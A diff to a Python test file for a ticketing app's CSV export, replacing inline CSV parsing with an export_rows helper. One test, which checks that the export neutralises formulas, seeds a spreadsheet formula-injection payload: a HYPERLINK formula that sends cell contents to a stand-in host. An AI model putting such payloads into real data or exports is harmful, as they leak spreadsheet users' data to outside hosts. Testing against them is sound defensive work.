@@ -13,7 +13,7 @@ from models.catalog import Layanan, PerangkatDaerah
 from models.db import connection, database, utcnow
 from models.staff import User
 from models.ticket import Ticket
-from tests.helpers import T0, new_request, required_uploads
+from tests.helpers import T0, export_rows, new_request, required_uploads
 
 pytestmark = pytest.mark.csrf_off  # forms are posted without their token
 
@@ -215,14 +215,14 @@ def test_lists_filters_and_sorting_on_postgresql(postgres_url, make_app):
 
 
 def test_export_neutralises_spreadsheet_formulas(client, login_as, make_ticket):
-    import csv
-    import io
-
     make_ticket("open", subject='=HYPERLINK("http://x.example/?"&B2;"buka")')
     make_ticket("open", requester_name="@SUM(1+1)")
     login_as("admin")
-    export = client.get("/admin/tiket/export/csv/").get_data(as_text=True)
-    cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
+    cells = [
+        cell
+        for row in export_rows(client.get("/admin/tiket/export/csv/").get_data())
+        for cell in row
+    ]
     assert '\'=HYPERLINK("http://x.example/?"&B2;"buka")' in cells
     assert "'@SUM(1+1)" in cells
     assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
@@ -268,8 +268,6 @@ def test_capped_count_text():
 
 def test_export_streams_every_row(app, client, login_as, make_ticket):
     """The CSV export is a generator over the database cursor, and it has every ticket."""
-    import csv
-    import io
     import types
 
     made = {make_ticket("open").number for _ in range(7)}
@@ -285,7 +283,7 @@ def test_export_streams_every_row(app, client, login_as, make_ticket):
         assert isinstance(rows, types.GeneratorType)
     response = client.get("/admin/tiket/export/csv/")
     assert response.is_streamed
-    lines = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+    lines = export_rows(response.get_data())
     assert {line[0] for line in lines[1:]} == made
 
 
